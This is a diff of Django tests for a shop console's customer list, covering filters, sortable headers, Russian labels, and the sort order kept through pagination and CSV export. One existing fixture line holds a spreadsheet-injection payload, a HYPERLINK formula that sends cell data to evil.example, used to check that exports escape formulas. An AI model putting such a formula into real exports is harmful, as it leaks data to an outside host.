@@ -45,8 +45,10 @@ def test_cashier_cannot_post_changes(client, cashier_user, customer, path):
 
 
 class TestList:
-    def names(self, response):
-        return re.findall(r'<td><a href="/customers/\d+/">([^<]+)</a></td>', response.content.decode())
+    def names(self, page) -> list[str]:
+        """The names in the list's rows, in order, from a response or its text."""
+        text = page if isinstance(page, str) else page.content.decode()
+        return re.findall(r'<td><a href="/customers/\d+/">([^<]+)</a></td>', text)
 
     def test_filters_by_tier_balance_and_never_bought(self, console, shop):
         anna, boris = shop
@@ -79,6 +81,111 @@ class TestList:
             ('\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "'-x@example.com"),
             ("'@SUM(1+1)", ""),
         ]
+
+    def options(self, page: str, name: str) -> list[str]:
+        select = re.search(rf'<select name="{name}".*?</select>', page, re.S).group(0)
+        return re.findall(r"<option[^>]*>([^<]*)</option>", select)
+
+    def test_yes_no_filters_say_any_yes_no_and_choice_filters_say_any(self, console, shop):
+        page = console.get("/customers/").content.decode()
+        for name in ("never_bought", "consent_email", "consent_sms"):
+            assert self.options(page, name) == ["Any", "Yes", "No"]
+        assert self.options(page, "tier") == ["Any", "Bronze", "Silver", "Gold"]
+        assert "Unknown" not in page and "---------" not in page
+        # "Any" keeps the filter off; "No" filters.
+        assert len(self.names(console.get("/customers/", {"never_bought": ""}))) == 3
+        assert self.names(console.get("/customers/", {"never_bought": "false", "sort": "name"})) == [
+            "Anna Petrova",
+            "Boris Sidorov",
+        ]
+
+    def test_the_filters_in_russian(self, console, shop):
+        console.cookies["django_language"] = "ru"
+        page = console.get("/customers/").content.decode()
+        assert self.options(page, "never_bought") == ["Любой", "Да", "Нет"]
+        assert self.options(page, "tier")[0] == "Любой"
+        assert "Неизвестно" not in page and "---------" not in page
+
+    def headers(self, page: str) -> dict[str, tuple[str, str]]:
+        """{header text: (link, aria-sort)} of the list's columns, arrows included in the text."""
+        thead = page.split('id="customers"')[1].split("</thead>")[0]
+        found = {}
+        for th in re.findall(r"<th[^>]*>.*?</th>", thead, re.S):
+            text = re.sub(r"<[^>]+>", "", th).replace("&nbsp;", " ").strip()
+            link = re.search(r'href="([^"]*)"', th)
+            aria = re.search(r'aria-sort="([^"]*)"', th)
+            found[text] = (link.group(1).replace("&amp;", "&") if link else "", aria.group(1) if aria else "")
+        return found
+
+    def test_a_header_sorts_by_its_column_and_a_second_click_reverses(self, console, shop):
+        page = console.get("/customers/").content.decode()
+        headers = self.headers(page)
+        # Newest first until asked otherwise, and the header says so.
+        assert headers["Joined ↓"] == ("?sort=joined", "descending")
+        assert self.names(page) == ["Vera Never", "Boris Sidorov", "Anna Petrova"]
+        assert headers["Phone"] == ("", "") and headers["Card"] == ("", "")  # identifiers do not sort
+        page = console.get("/customers/" + headers["Balance ↕"][0]).content.decode()
+        assert self.names(page) == ["Vera Never", "Boris Sidorov", "Anna Petrova"]  # 0, 50, 1 000 points
+        headers = self.headers(page)
+        assert headers["Balance ↑"] == ("?sort=-balance", "ascending") and "Joined ↕" in headers
+        page = console.get("/customers/" + headers["Balance ↑"][0]).content.decode()
+        assert self.names(page) == ["Anna Petrova", "Boris Sidorov", "Vera Never"]
+        assert "Balance ↓" in self.headers(page)
+        page = console.get("/customers/" + self.headers(page)["Name ↕"][0]).content.decode()
+        assert self.names(page) == ["Anna Petrova", "Boris Sidorov", "Vera Never"]
+        # Tiers sort by their order (Bronze, Silver, Gold); Vera, who never bought, has no tier yet: last.
+        assert self.names(console.get("/customers/", {"sort": "-tier"})) == [
+            "Anna Petrova",
+            "Boris Sidorov",
+            "Vera Never",
+        ]
+        assert self.names(console.get("/customers/", {"sort": "tier"})) == [
+            "Boris Sidorov",
+            "Anna Petrova",
+            "Vera Never",
+        ]
+        # Rows without a value come last both ways: Vera has never bought.
+        page = console.get("/customers/", {"sort": "last_purchase"}).content.decode()
+        assert self.names(page)[-1] == "Vera Never"
+        page = console.get("/customers/", {"sort": "-last_purchase"}).content.decode()
+        assert self.names(page)[-1] == "Vera Never"
+
+    def test_an_unknown_sort_shows_the_default_order(self, console, shop):
+        for value in ("phone", "-password", "name,balance"):
+            page = console.get("/customers/", {"sort": value}).content.decode()
+            assert self.names(page) == ["Vera Never", "Boris Sidorov", "Anna Petrova"]
+            assert "Joined ↓" in self.headers(page)
+
+    def test_the_sort_is_kept_with_the_filters_in_pages_headers_and_export(self, console, shop):
+        page = console.get("/customers/", {"sort": "-balance"}).content.decode()
+        assert '<input type="hidden" name="sort" value="-balance">' in page
+        response = console.post("/customers/", {"balance_min": "1", "sort": "-balance"})
+        token = response.url.split("f=")[1].split("&")[0]
+        assert response.url == f"/customers/?f={token}&sort=-balance"
+        page = console.get(response.url).content.decode()
+        assert self.names(page) == ["Anna Petrova", "Boris Sidorov"]
+        assert self.headers(page)["Balance ↓"][0] == f"?f={token}&sort=balance"
+        assert f'href="?f={token}&amp;sort=-balance&amp;export=csv"' in page
+        export = console.get(f"/customers/?f={token}&sort=balance&export=csv")
+        rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
+        assert [r[0] for r in rows[1:]] == ["Boris Sidorov", "Anna Petrova"]
+
+    def test_the_headers_and_their_sort_hints_in_russian(self, console, shop):
+        console.cookies["django_language"] = "ru"
+        page = console.get("/customers/", {"sort": "balance"}).content.decode()
+        assert list(self.headers(page)) == [
+            "Имя ↕",
+            "Телефон",
+            "Карта",
+            "Уровень ↕",
+            "Баланс ↑",
+            "Дата регистрации ↕",
+            "Последняя покупка ↕",
+        ]
+        assert 'title="Сортировать по столбцу «Баланс», по убыванию"' in page
+        assert 'title="Сортировать по столбцу «Имя», по возрастанию"' in page
+        assert "descending" not in page.replace('aria-sort="ascending"', "").lower()
+        assert "ascending" not in page.replace('aria-sort="ascending"', "").lower()
 
     def test_bad_filter_values_say_so(self, console, shop):
         page = console.get("/customers/", {"balance_min": "lots"}).content.decode()
@@ -178,8 +285,9 @@ class TestSearchKeepsPhonesOutOfUrls:
         page = console.get(response.url).content.decode()
         assert "Boris Sidorov" in page and "Anna Petrova" not in page
         assert "111-22-33" not in re.sub(r'value="[^"]*"', "", page.split('id="customers"')[1])  # no phone in links
-        token = response.url.split("f=")[1]
-        assert f'href="?f={token}&amp;export=csv"' in page
+        token = response.url.split("f=")[1].split("&")[0]
+        assert response.url == f"/customers/?f={token}&sort=name"  # the order is no personal data
+        assert f'href="?f={token}&amp;sort=name&amp;export=csv"' in page
         export = console.get(f"/customers/?f={token}&export=csv")
         rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
         assert [r[0] for r in rows[1:]] == ["Boris Sidorov"]
